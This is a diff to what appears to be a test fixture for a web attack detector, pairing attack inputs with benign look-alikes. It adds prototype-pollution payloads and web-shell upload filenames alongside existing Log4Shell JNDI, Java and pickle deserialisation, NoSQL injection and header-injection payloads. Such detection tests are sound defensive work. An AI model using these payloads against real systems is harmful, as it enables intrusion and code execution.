@@ -237,6 +237,9 @@ ATTACKS: dict[str, list[Event]] = {
         header("X-Whatever", "${${upper:j}ndi:ldap://x.example/a}"),
     ],
     "deserialisation": [
+        api({"__proto__": {"isAdmin": True}}),
+        raw("constructor[prototype][isAdmin]=true"),
+        raw("__proto__[isAdmin]=true"),
         header("Cookie", "rememberMe=" + _b64(bytes(range(96)))),  # Shiro
         header("Cookie", "session=" + _b64(gzip.compress(bytes.fromhex("aced0005737200")))),
         q(_b64(b"cos\nsystem\n(S'id'\ntR.")),  # a protocol 0 pickle
@@ -274,6 +277,10 @@ ATTACKS: dict[str, list[Event]] = {
         api({"$where": "this.password.match(/.*/)"}),
     ],
     "protocol": [
+        _upload("shell.php"),
+        _upload("avatar.jpg.php"),
+        _upload(".htaccess"),
+        _upload("cmd.jsp"),
         header("X-Original-URL", "/admin"),
         header("Range", "bytes=0-18446744073709551615"),  # MS15-034
         _event("/alerts%0d%0aSet-Cookie:%20aldsid=evil"),
@@ -429,6 +436,8 @@ BENIGN: dict[str, list[Event]] = {
         q("$${a}"),
     ],
     "deserialisation": [
+        raw("prototype=2&constructor=ACME+Builders"),
+        form("the constructor of the prototype bridge"),
         header("Cookie", "rememberMe=true; aldsid=gAJx7sKq9LmN2pQ4wXyZ0a"),
         q("H4sI is how a gzip stream starts in base64"),
         form("O:8 is a train"),
@@ -452,6 +461,8 @@ BENIGN: dict[str, list[Event]] = {
         api({"price": {"currency": "EUR", "amount": 5}}),
     ],
     "protocol": [
+        _upload("pothole.php.jpg"),
+        _upload("budget-2025.pdf"),
         _event(
             "/api/v1/me", method="PUT", body="{}", headers=(("Content-Type", "application/json"),)
         ),
